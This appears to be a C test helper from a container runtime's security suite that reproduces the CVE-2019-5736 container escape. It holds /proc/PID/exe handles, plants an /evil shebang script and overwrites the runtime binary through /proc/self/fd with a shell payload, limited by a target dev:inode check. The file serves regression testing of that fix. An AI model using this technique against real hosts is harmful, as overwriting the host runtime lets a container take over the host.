/* attack: a static helper that plays the container's side of
   CVE-2019-5736 in the functional suite (tests/functional/test_security_*).

   Build:  gcc -static -O2 -Wall -Wextra -o attack tests/security/attack.c

   The attack: get an O_PATH handle on the runtime's binary through
   /proc/<pid>/exe of a runtime process the container can see, and once
   that process is gone (no more ETXTBSY), reopen the handle through
   /proc/self/fd/N for writing and overwrite the host's binary.

   Safety: the helper only ever writes to the image the test names
   (TARGET, "DEV:INO" of the private copy of the runtime under test) or to
   a memfd; any other image it happens to hold (say a reaper's, if the
   runtime exited early) is reported as target=other and left alone.

   Subcommands (output: key=value lines; errno values are symbolic names,
   0 for success):

     hold PID WAIT TARGET
                       open /proc/PID/exe (O_PATH), try to open it for
                       writing right away (open_wr=), print `held`, then
                       wait until PID is gone or runs another image (at
                       most WAIT seconds) and try again
                       through the held handle (reopen_wr=, write=),
                       then print `done`.
                       PID `ppid` means our parent at start.
     shebang SECONDS TARGET
                       the classic exploit: write /evil, a script whose
                       interpreter is #!/proc/self/exe, so that `exec ID
                       /evil` makes the runtime run its own image as a
                       container process.  The image blocks opening its
                       --log, a fifo we hold; print `ready`, scan /proc
                       for a process running a foreign image, hold it,
                       let it go, and try to write it as above
                       (caught=, then exe.N= open_wr.N= reopen_wr.N=
                       write.N= for each, then `done`).
*/
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX_CAUGHT 16
#define FIFO "/tmp/attack.fifo"
#define EVIL "/evil"
#define PAYLOAD "#!/bin/sh\necho pwned-by-the-container\n"

static const char *
ename (int e)
{
  const char *n = e ? strerrorname_np (e) : "0";
  return n ? n : "unknown";
}

static double
now (void)
{
  struct timespec ts;
  clock_gettime (CLOCK_MONOTONIC, &ts);
  return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static void
nap (void)
{
  struct timespec ts = { 0, 5 * 1000 * 1000 };
  nanosleep (&ts, NULL);
}

struct catch
{
  pid_t pid;
  int fd; /* O_PATH of /proc/pid/exe */
  dev_t dev;
  ino_t ino;
  char exe[PATH_MAX];
  int open_wr;
};

static int
try_open_write (const char *path)
{
  int fd = open (path, O_WRONLY | O_APPEND | O_CLOEXEC);
  if (fd < 0)
    return errno;
  close (fd);
  return 0;
}

static bool
grab (pid_t pid, struct catch *c)
{
  char path[64];
  struct stat st;
  snprintf (path, sizeof path, "/proc/%d/exe", (int)pid);
  int fd = open (path, O_PATH | O_CLOEXEC);
  if (fd < 0 || fstat (fd, &st) < 0)
    {
      if (fd >= 0)
        close (fd);
      return false;
    }
  c->pid = pid;
  c->fd = fd;
  c->dev = st.st_dev;
  c->ino = st.st_ino;
  ssize_t n = readlink (path, c->exe, sizeof c->exe - 1);
  c->exe[n > 0 ? n : 0] = '\0';
  c->open_wr = try_open_write (path);
  return true;
}

/* PID is gone, or runs an image other than c's. */
static bool
released (const struct catch *c)
{
  char path[64];
  struct stat st;
  snprintf (path, sizeof path, "/proc/%d/exe", (int)c->pid);
  if (stat (path, &st) < 0)
    return errno == ENOENT || errno == ESRCH;
  return st.st_dev != c->dev || st.st_ino != c->ino;
}

static void
wait_released (const struct catch *c, double seconds)
{
  double end = now () + seconds;
  while (!released (c) && now () < end)
    nap ();
}

static dev_t target_dev;
static ino_t target_ino;

static bool
parse_target (const char *s)
{
  unsigned long long dev, ino;
  if (s == NULL || sscanf (s, "%llu:%llu", &dev, &ino) != 2)
    return false;
  target_dev = (dev_t)dev;
  target_ino = (ino_t)ino;
  return true;
}

/* The runtime under test, or a copy of it the runtime made (a memfd). */
static bool
is_target (const struct catch *c)
{
  return (c->dev == target_dev && c->ino == target_ino) || strncmp (c->exe, "/memfd:", 7) == 0;
}

/* The write itself: through the held handle, as the exploit does, for as
   long as some process still runs the image (ETXTBSY): the runtime's
   own processes on the host may take a moment to exit. */
static void
report_write (const struct catch *c, const char *suffix)
{
  char path[64];
  if (!is_target (c))
    {
      printf ("target%s=other\n", suffix);
      return;
    }
  printf ("target%s=runtime\n", suffix);
  snprintf (path, sizeof path, "/proc/self/fd/%d", c->fd);
  double end = now () + 10;
  int wr;
  while ((wr = open (path, O_WRONLY | O_CLOEXEC)) < 0 && errno == ETXTBSY && now () < end)
    nap ();
  printf ("reopen_wr%s=%s\n", suffix, ename (wr < 0 ? errno : 0));
  if (wr >= 0)
    {
      ssize_t n = write (wr, PAYLOAD, sizeof PAYLOAD - 1);
      printf ("write%s=%s\n", suffix, ename (n < 0 ? errno : 0));
      close (wr);
    }
}

static int
cmd_hold (int argc, char **argv)
{
  if (argc < 3 || !parse_target (argv[2]))
    {
      fprintf (stderr, "usage: attack hold PID WAIT DEV:INO\n");
      return 2;
    }
  pid_t pid = strcmp (argv[0], "ppid") == 0 ? getppid () : (pid_t)atoi (argv[0]);
  double wait = atof (argv[1]);
  struct catch c;
  printf ("pid=%d\n", (int)pid);
  if (!grab (pid, &c))
    {
      printf ("grab=%s\n", ename (errno));
      return 1;
    }
  printf ("grab=0\nexe=%s\nopen_wr=%s\nheld\n", c.exe, ename (c.open_wr));
  fflush (stdout);
  wait_released (&c, wait);
  printf ("released=%d\n", released (&c) ? 1 : 0);
  report_write (&c, "");
  printf ("done\n");
  return 0;
}

static int
write_evil (void)
{
  FILE *f = fopen (EVIL, "w");
  if (f == NULL)
    return -1;
  fprintf (f, "#!/proc/self/exe --log=" FIFO "\n");
  if (fclose (f) != 0 || chmod (EVIL, 0755) < 0)
    return -1;
  unlink (FIFO);
  return mkfifo (FIFO, 0600);
}

static bool
is_pid (const char *s)
{
  if (*s == '\0')
    return false;
  for (; *s; s++)
    if (*s < '0' || *s > '9')
      return false;
  return true;
}

static bool
caught_already (const struct catch *c, int n, pid_t pid)
{
  for (int i = 0; i < n; i++)
    if (c[i].pid == pid)
      return true;
  return false;
}

/* One pass over /proc: hold every process whose image is not ours. */
static int
scan (struct catch *c, int n, const struct stat *self)
{
  DIR *d = opendir ("/proc");
  struct dirent *e;
  if (d == NULL)
    return n;
  while (n < MAX_CAUGHT && (e = readdir (d)) != NULL)
    {
      if (!is_pid (e->d_name))
        continue;
      pid_t pid = (pid_t)atoi (e->d_name);
      if (pid == getpid () || caught_already (c, n, pid))
        continue;
      struct catch k;
      if (!grab (pid, &k))
        continue; /* gone, or not ours to look at (EACCES) */
      if (k.dev == self->st_dev && k.ino == self->st_ino)
        {
          close (k.fd);
          continue;
        }
      c[n++] = k;
    }
  closedir (d);
  return n;
}

static int
cmd_shebang (int argc, char **argv)
{
  if (argc < 2 || !parse_target (argv[1]))
    {
      fprintf (stderr, "usage: attack shebang SECONDS DEV:INO\n");
      return 2;
    }
  double seconds = atof (argv[0]);
  struct catch c[MAX_CAUGHT];
  struct stat self;
  int n = 0;
  if (stat ("/proc/self/exe", &self) < 0 || write_evil () < 0)
    {
      printf ("setup=%s\n", ename (errno));
      return 1;
    }
  printf ("ready\n");
  fflush (stdout);
  double end = now () + seconds;
  while (n == 0 && now () < end)
    {
      n = scan (c, n, &self);
      if (n == 0)
        nap ();
    }
  /* Let the runtime's image go on: it opens --log, then exits. */
  int fifo = open (FIFO, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
  printf ("caught=%d\n", n);
  for (int i = 0; i < n; i++)
    {
      char suffix[16];
      snprintf (suffix, sizeof suffix, ".%d", i);
      wait_released (&c[i], 10);
      printf ("exe%s=%s\nopen_wr%s=%s\nreleased%s=%d\n", suffix, c[i].exe, suffix,
              ename (c[i].open_wr), suffix, released (&c[i]) ? 1 : 0);
      report_write (&c[i], suffix);
    }
  if (fifo >= 0)
    close (fifo);
  printf ("done\n");
  return 0;
}

int
main (int argc, char **argv)
{
  setvbuf (stdout, NULL, _IOLBF, 0);
  if (argc >= 2 && strcmp (argv[1], "hold") == 0)
    return cmd_hold (argc - 2, argv + 2);
  if (argc >= 2 && strcmp (argv[1], "shebang") == 0)
    return cmd_shebang (argc - 2, argv + 2);
  fprintf (stderr, "usage: attack hold PID WAIT DEV:INO | attack shebang SECONDS DEV:INO\n");
  return 2;
}
